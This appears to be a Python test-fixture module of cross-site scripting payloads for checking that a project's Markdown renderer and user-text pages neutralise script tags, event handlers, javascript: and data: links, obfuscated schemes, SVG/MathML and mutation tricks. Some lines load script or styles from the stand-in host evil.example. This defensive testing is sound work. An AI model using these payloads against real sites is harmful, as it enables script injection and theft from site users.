"""Cross-site scripting payloads for test_xss.py (issue 7 item 2), written for this project: raw HTML, event
handlers, dangerous URL schemes in every Markdown link form, entity and whitespace obfuscation, SVG and
MathML, mutation XSS through raw-text and RCDATA elements, attribute breakouts and Unicode tricks.

Every payload goes through `render_markdown` and through every page that shows user text.
"""
from __future__ import annotations

ALERT = "alert(1)"

SCRIPT_AND_HANDLERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=\"x\" onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onclick=alert(1) href=#>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<td background=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">raw html link</a>",
    "<frameset onload=alert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<input type=image src=x onerror=alert(1)>",
    "<object type=text/html data=//evil.example></object>",
]

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "java%0ascript:alert(1)",
    "java\tscript:alert(1)",
    "%20javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "jav&#x09;ascript:alert(1)",
    "javascript&NewLine;:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",  # fullwidth letters
    "java\u200bscript:alert(1)",  # zero-width space
    "jаvascript:alert(1)",  # Cyrillic a (homoglyph)
]

MARKDOWN_LINK_FORMS = [
    "[click]({url})",
    "[click](<{url}>)",
    "[click]({url} \"title\")",
    "![image]({url})",
    "[ref]\n\n[ref]: {url}",
    "[text][r]\n\n[r]: <{url}> 'title'",
    "![img][i]\n\n[i]: {url}",
    "<{url}>",
    "[**nested** [link]({url})](https://example.org)",
    "> quote [x]({url})",
    "- item ![x]({url})",
]

MARKDOWN_LINKS = [form.format(url=url) for url in SCHEMES for form in MARKDOWN_LINK_FORMS[:3]] + [
    form.format(url=url) for url in SCHEMES[:8] for form in MARKDOWN_LINK_FORMS[3:]
]

SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg%20id='x'%20onload='alert(1)'/>#x /></svg>",
    "<svg><style>@import '//evil.example'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
]

MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style></style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><select><option><style><img src=x onerror=alert(1)></style>",
    "<a href=\"https://example.org\"><table><a href=javascript:alert(1)>x</a></table></a>",
]

BREAKOUTS = [
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus '",
    "\" autofocus onfocus=alert(1) x=\"",
    "</a><a href=javascript:alert(1)>",
    "[x](https://example.org\" onmouseover=\"alert(1))",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "![x\" onerror=\"alert(1)](https://example.org/x.png)",
    "[x](https://example.org/\"><script>alert(1)</script>)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    "</code><script>alert(1)</script>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>",
    "${alert(1)}",
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"//evil.example\"?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",  # fullwidth angle brackets
    "\u202e>tpircs/<)1(trela>tpircs<",  # right-to-left override
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufeff<script>alert(1)</script>",
    "<a href=\"https://example.org\">ok</a><a href=\"https://ex\u0430mple.org\">homoglyph host</a>",
    "**bold <img src=x onerror=alert(1)> bold**",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "1. item\n   > <iframe src=//evil.example></iframe>",
    "# <svg onload=alert(1)>",
    "~~<img src=x onerror=alert(1)>~~",
    "*[x](javascript:alert(1))*",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    "https://example.org/<script>alert(1)</script>",
    "www.example.org\"onmouseover=\"alert(1)",
    "mailto:x@example.org?body=<script>alert(1)</script>",
    "[mail](mailto:x@example.org\"onclick=\"alert(1))",
    "<a href=https://example.org onclick=alert(1)>linked</a>",
]

PAYLOADS: list[str] = list(dict.fromkeys(SCRIPT_AND_HANDLERS + MARKDOWN_LINKS + SVG_AND_MATHML + MUTATION + BREAKOUTS))
